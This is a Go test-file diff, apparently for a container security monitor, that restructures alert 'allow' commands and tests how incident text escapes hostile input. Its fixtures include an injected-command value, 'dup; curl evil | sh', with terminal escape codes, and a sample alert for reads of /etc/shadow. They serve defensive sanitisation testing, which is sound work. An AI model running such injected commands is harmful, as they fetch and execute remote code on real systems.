@@ -12,6 +12,7 @@ import (
 
 	"bobwatch/internal/alert"
 	"bobwatch/internal/allowance"
+	"bobwatch/internal/profile"
 	"bobwatch/internal/rule"
 	"bobwatch/internal/severity"
 	"bobwatch/internal/term"
@@ -26,7 +27,10 @@ func deviation(fingerprint, node, pod string, count uint64, first, last int) ale
 	}
 	a.Workload = alert.Workload{Namespace: "shop", Kind: "Deployment", Name: "webapp"}
 	a.Pod.Name = pod
-	a.Allow = "bobctl allow --workload shop/Deployment/webapp --container web --open /etc/shadow --flags O_RDONLY"
+	a.Allow = &alert.Allowance{
+		Workload:  profile.Workload{Namespace: "shop", Kind: "Deployment", Name: "webapp"},
+		Container: profile.Container{Name: "web", Opens: []profile.Open{{Path: "/etc/shadow", Flags: []string{"O_RDONLY"}}}},
+	}
 	return a
 }
 
@@ -97,7 +101,7 @@ func TestIncidentText(t *testing.T) {
 	hostile.Workload.Name, hostile.Process.PID, hostile.Process.Comm = "w\u202e", 1, "c\x9b"
 	hostile.Ancestors = []alert.Process{{Comm: "a\x00"}}
 	pasted := plain
-	pasted.Allow = "bobctl allow --workload a/b/c --syscall dup; curl evil | sh"
+	pasted.Allow = &alert.Allowance{Container: profile.Container{Syscalls: map[string][]string{"386": {"dup; curl evil | sh\x1b[2J"}}}}
 	for name, tt := range map[string]struct {
 		alert alert.Alert
 		lines int
@@ -105,7 +109,7 @@ func TestIncidentText(t *testing.T) {
 	}{
 		"plain":   {plain, 3, "25 times"},
 		"hostile": {hostile, 3, `m\u001b[2J\u000a12:00:00 LOW`},
-		"pasted":  {pasted, 2, "unexpected read"},
+		"pasted":  {pasted, 3, `--syscall $'dup; curl evil | sh\033[2J'`},
 	} {
 		t.Run(name, func(t *testing.T) {
 			i, _ := NewIncidents().Add(&tt.alert)
